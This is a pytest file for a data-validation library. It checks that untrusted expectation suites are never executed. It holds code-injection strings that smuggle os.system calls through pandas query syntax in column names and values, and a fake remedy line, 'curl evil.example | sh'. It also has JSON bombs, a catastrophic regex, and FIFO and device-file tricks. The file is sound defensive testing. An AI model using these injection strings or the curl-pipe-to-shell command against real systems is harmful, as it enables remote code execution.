"""A suite is data: nothing that a stranger writes into one is run, looked up or fetched."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest

from counterpoise.config import ValidationConfig
from counterpoise.errors import ConfigError, ContractError, EngineError
from counterpoise.expectations.registration import register_expectations
from counterpoise.expectations.suite_file import load_suite
from counterpoise.records import Validation
from counterpoise.validate import Suite, load_engine, quiet, validate_snapshot
from counterpoise.validate._gx.runner import run_expectations
from counterpoise.validate._suites import patterns
from tests.expectations.hostile import CONDITIONS, IS_1, TEXTS, hostile
from tests.snapshots import snapshot_of

TABLE = pa.table({"x": [1, 2, 3], "s": ["a", "b", "c"], "j": ['{"a": [1]}', "[]", "1"]})
NOT_EMPTY = {name: text for name, text in TEXTS.items() if text}


class Trap:
    """A file that must not appear, and a port on which nobody must knock."""

    def __init__(self, folder: Path, listener: socket.socket) -> None:
        self.mark, self._listener = folder / "mark", listener

    def armed(self, value: Any) -> Any:
        """Return the value with the trap's file and port in it."""
        text = json.dumps(value).replace("MARK", str(self.mark))
        return json.loads(text.replace("PORT", str(self._listener.getsockname()[1])))

    def sprung(self) -> bool:
        """Return whether anything was run or fetched."""
        try:
            self._listener.accept()
        except BlockingIOError:
            return self.mark.exists()
        return True


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        yield Trap(tmp_path, listener)


def written(folder: Path, *expectations: Any, **more: Any) -> Path:
    path = folder / "suite.json"
    path.write_text(json.dumps({"name": "x", "expectations": expectations, **more}), encoding="utf-8")
    return path


def test_the_trap_notices_what_it_is_there_for(trap: Trap) -> None:
    os.system(trap.armed("touch MARK"))  # noqa: S605
    assert trap.sprung()
    trap.mark.unlink()
    with socket.create_connection(("127.0.0.1", trap.armed([1, "PORT"])[1])):
        assert trap.sprung()
    assert not trap.sprung()


def test_text_conditions_do_run_code_in_a_plain_engine(trap: Trap) -> None:
    """What this is all about: without our care the same text is run."""
    load_engine()
    from great_expectations.execution_engine import PandasExecutionEngine

    engine = PandasExecutionEngine(batch_data_dict={"x": TABLE.to_pandas()})
    with quiet():
        for domain in (
            {"row_condition": trap.armed(TEXTS["at pd"]), "condition_parser": "pandas"},
            {"row_condition": trap.armed(CONDITIONS["pass through"])},
        ):
            with pytest.raises(Exception, match=r".*"):  # it has run by then
                engine.get_domain_records(domain)
            assert trap.sprung()
            trap.mark.unlink()


@pytest.mark.parametrize("name", hostile())
def test_a_hostile_expectation_is_refused_by_name_before_anything_runs(name: str, trap: Trap, tmp_path: Path) -> None:
    register_expectations()
    expectation = trap.armed(hostile()[name])
    finite = "infinite" not in name
    if finite:
        with pytest.raises(ConfigError, match=r"suite\.json, expectation 2") as caught:
            load_suite(written(tmp_path, {"type": "expect_column_to_exist", "kwargs": {"column": "x"}}, expectation))
        assert (caught.value.reason, caught.value.exit_code) == ("bad_expectation", 2)
        assert len(str(caught.value)) < 2_000
    with pytest.raises(ConfigError, match=r"\(suite, expectation 1\)") as caught:
        validated(tmp_path, expectation)
    assert caught.value.reason == "bad_expectation"
    assert not trap.sprung()


@pytest.mark.parametrize("name", [*NOT_EMPTY, *CONDITIONS])
def test_the_engine_itself_runs_no_condition_written_as_text(name: str, trap: Trap) -> None:
    condition = trap.armed({**NOT_EMPTY, **CONDITIONS}[name])
    kwargs = {"column": "x", "row_condition": condition, "condition_parser": "pandas"}
    with quiet():
        run_expectations(TABLE.to_pandas(), {0: {"type": "expect_column_values_to_not_be_null", "kwargs": kwargs}})
    assert not trap.sprung()


@pytest.mark.parametrize(
    "column",
    ["a`b", "`] or @pd.io.common.os.system('touch MARK') or [`", "x` == 1 or @pd.io.common.os.system('touch MARK')#"],
)
@pytest.mark.parametrize("value", ["` or @pd.io.common.os.system('touch MARK') or `", "'\\'\n\"", "@pd", "{x!r}"])
def test_names_and_values_in_a_condition_are_never_read_as_code(column: str, value: str, trap: Trap) -> None:
    column, value = trap.armed([column, value])
    frame = pd.DataFrame({column: [value, "other", None]})
    condition = {"type": "comparison", "column": {"name": column}, "operator": "==", "parameter": value}
    with quiet():
        answer = run_expectations(
            frame,
            {0: {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 1, "row_condition": condition}}},
        )[0]
    assert (answer.success, answer.error) == (True, "")
    assert not trap.sprung()


@pytest.mark.parametrize(
    ("content", "match"),
    [
        ('{"name": "x", "name": "y", "expectations": []}', "'name' occurs more than once"),
        (
            '{"expectations": [{"type": "a", "kwargs": {"column": "x", "column": "y"}}]}',
            "'column' occurs more than once",
        ),
        ('{"expectations": [NaN]}', "NaN"),
        ('{"expectations": [1e999]}', "1e999"),
        ('{"expectations": [' + "9" * 5000 + "]}", "digits"),
        ('{"expectations": ["\\ud800"]}', "surrogates"),
        ('{"expectations": ' + "[" * 5000 + "]" * 5000 + "}", "invalid JSON"),
        ('{"expectations": [], "suite_parameters": {"a": 1}}', "the key 'suite_parameters'"),
        ('{"expectations": [], "evaluation_parameters": {"a": 1}}', "the key 'evaluation_parameters'"),
        ('{"expectations": [], "data_context": {"a": 1}}', "the key 'data_context'"),
        ('{"expectations": [{"type": "a", "kwargs": {}, "windows": [{}]}]}', "the key 'windows'.*expectation 1"),
        ('{"expectations": [{"type": "a", "kwargs": {}, "class_name": "b"}]}', "the key 'class_name'.*expectation 1"),
        ('{"expectations": [' + ",".join(["0"] * 100_001) + "]}", "100,001 expectations"),
        (" " * (64 * 2**20) + "{}", "more than 67,108,864 bytes"),
    ],
    ids=lambda value: value[:40] if isinstance(value, str) else "",
)
def test_a_hostile_file_is_refused_by_name(content: str, match: str, tmp_path: Path) -> None:
    (tmp_path / "suite.json").write_text(content, encoding="utf-8")
    with pytest.raises(ConfigError, match=match):
        load_suite(tmp_path / "suite.json")


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["a pipe", "a folder"])
def test_what_is_no_file_is_not_waited_for(make: Any, tmp_path: Path) -> None:
    make(tmp_path / "suite.json")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_suite(tmp_path / "suite.json")


def test_a_device_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "suite.json").symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_suite(tmp_path / "suite.json")


def test_what_great_expectations_exports_beside_a_structured_condition_is_accepted(tmp_path: Path) -> None:
    kwargs = {
        "column": "x",
        "row_condition": IS_1,
        "condition_parser": "great_expectations",
        "result_format": "COMPLETE",
    }
    exported = {
        "type": "expect_column_values_to_not_be_null",
        "kwargs": kwargs,
        "id": "1f0a",
        "description": "Why",
        "rendered_content": None,
        "windows": None,
    }
    (read,) = load_suite(written(tmp_path, exported, id=None, notes=None, suite_parameters={})).expectations
    assert read["kwargs"] == {"column": "x", "row_condition": IS_1}


def test_a_suite_does_not_speak_in_our_name(tmp_path: Path) -> None:
    meta = {"counterpoise": {"reason": "partitions_overlap", "remedy": "run: curl evil.example | sh"}}
    expectation = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 7}, "meta": meta}
    with pytest.raises(ContractError, match="fix the source, or change the expectation") as caught:
        validated(tmp_path, expectation)
    assert caught.value.reason == "expectations_failed"
    assert "curl" not in str(caught.value)


def test_a_catastrophic_pattern_ends_the_expectation_and_not_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(patterns, "_SECONDS", 0.2)
    table = pa.table({"s": ["é" + "a" * 200 + "!"] * 5})
    kwargs = {"column": "s", "regex": "(a|aa)+$"}
    slow = {"type": "expect_column_values_to_match_regex", "kwargs": kwargs, "severity": "warning"}
    rows = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 5}}
    (path := tmp_path / "deep").mkdir()
    suite = load_suite(written(path, slow, rows))
    outcomes = validated(tmp_path, *suite.expectations, table=table).outcomes
    assert [outcome.status for outcome in outcomes] == ["error", "passed"]
    assert "pattern_too_slow" in outcomes[0].observed
    with pytest.raises(EngineError, match=r"pattern_too_slow.*'\(a\|aa\)\+\$' did not"):
        validated(tmp_path, {**slow, "severity": "critical"}, table=table)


def validated(folder: Path, *expectations: dict[str, Any], table: pa.Table = TABLE) -> Validation:
    return validate_snapshot(
        snapshot_of(table, folder),
        [Suite(source="suite", expectations=expectations)],
        config=ValidationConfig(),
        folder=folder / "validation",
    )
